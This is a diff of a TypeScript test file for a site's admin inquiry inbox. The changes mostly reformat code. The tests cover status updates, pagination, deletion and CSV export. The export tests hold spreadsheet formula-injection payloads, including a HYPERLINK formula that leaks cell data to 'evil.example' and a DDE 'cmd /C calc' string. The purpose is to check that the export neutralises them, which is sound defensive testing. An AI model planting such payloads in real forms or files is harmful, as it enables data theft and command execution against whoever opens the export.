@@ -50,7 +50,9 @@ describe('admin.inquiries: the inbox', () => {
     await as().admin.inquiries.update({ id: newest!.id, status: 'closed', notes: 'Placed with Honey.' });
     expect((await as().admin.inquiries.byId({ id: newest!.id })).status).toBe('closed');
 
-    const bad = await as().admin.inquiries.update({ id: newest!.id, status: 'archived' as never, notes: '' }).catch((e: unknown) => e);
+    const bad = await as()
+      .admin.inquiries.update({ id: newest!.id, status: 'archived' as never, notes: '' })
+      .catch((e: unknown) => e);
     expect((bad as TRPCError).code).toBe('BAD_REQUEST');
 
     await as().admin.inquiries.markUnread({ id: newest!.id });
@@ -65,7 +67,10 @@ describe('admin.inquiries: the inbox', () => {
     expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
     expect(res.headers['content-disposition']).toBe('attachment; filename="inquiries.csv"');
     expect(res.headers['cache-control']).toBe('no-store');
-    const lines = res.body.replace(/^\uFEFF/, '').trim().split('\r\n');
+    const lines = res.body
+      .replace(/^\uFEFF/, '')
+      .trim()
+      .split('\r\n');
     expect(lines[0]).toBe('id,received,name,email,phone,interest,status,read,message,notes');
     expect(lines).toHaveLength(5);
     expect(lines[1]).toContain(`"'=HYPERLINK(""http://evil"")"`);
@@ -93,7 +98,7 @@ describe('admin.inquiries: the inbox', () => {
     const payloads = [
       'Hi.\n=1+1\n=HYPERLINK(...)',
       'Hi.\r\n=1+1\r\n=HYPERLINK("https://evil.example/?leak="&D3,"Click for puppy photos")',
-      'Hello\r+cmd|\' /C calc\'!A0\n\t=2+2\n-3+3\n@SUM(A1)',
+      "Hello\r+cmd|' /C calc'!A0\n\t=2+2\n-3+3\n@SUM(A1)",
     ];
     for (const message of payloads) await send({ name: 'Mallory Family', message });
     await send({ name: 'Honest Family', email: 'honest@example.com', message: 'A plain question about Biscuit.' });
@@ -122,8 +127,16 @@ describe('admin.inquiries: the inbox', () => {
     const base = Date.now();
     for (let i = 0; i < 55; i++) {
       em.create(Inquiry, {
-        name: `Bulk ${i}`, email: `b${i}@example.com`, phone: null, interest: 'information', message: 'Tell me more please.',
-        status: 'new', notes: '', readAt: null, createdAt: new Date(base + i * 1000), updatedAt: new Date(),
+        name: `Bulk ${i}`,
+        email: `b${i}@example.com`,
+        phone: null,
+        interest: 'information',
+        message: 'Tell me more please.',
+        status: 'new',
+        notes: '',
+        readAt: null,
+        createdAt: new Date(base + i * 1000),
+        updatedAt: new Date(),
       });
     }
     await em.flush();
@@ -153,6 +166,12 @@ describe('admin.inquiries: the inbox', () => {
 
     const id = page1.items[0]!.id;
     await as().admin.inquiries.remove({ id });
-    expect(((await as().admin.inquiries.byId({ id }).catch((e: unknown) => e)) as TRPCError).code).toBe('NOT_FOUND');
+    expect(
+      (
+        (await as()
+          .admin.inquiries.byId({ id })
+          .catch((e: unknown) => e)) as TRPCError
+      ).code,
+    ).toBe('NOT_FOUND');
   });
 });
